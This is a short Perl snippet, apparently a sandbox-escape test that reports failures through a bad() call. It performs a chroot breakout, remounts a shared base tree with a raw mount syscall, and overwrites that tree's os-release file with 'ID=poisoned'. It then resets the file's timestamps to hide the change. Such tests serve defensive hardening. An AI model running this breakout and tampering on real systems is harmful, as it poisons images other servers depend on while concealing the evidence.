# Changes the tree that other servers are made from, with the length and the time as they
# were.
mkdir '/run/lower';
chroot '/run/lower';
chdir '..' for 1 .. 24;
chroot '.';
my $base = '/base';
syscall(165, 0, $base, 0, 0x1020, 0);
for my $file ('/base/etc/os-release', '/proc/1/root/base/etc/os-release') {
    my ($accessed, $modified) = (stat $file)[8, 9];
    open(my $handle, '+<', $file) or next;
    syswrite($handle, 'ID=poisoned');
    truncate($handle, 11);
    close $handle;
    utime $accessed, $modified, $file;
    bad("$file was changed");
}
bad('there is no base') unless -e '/base/etc/os-release';
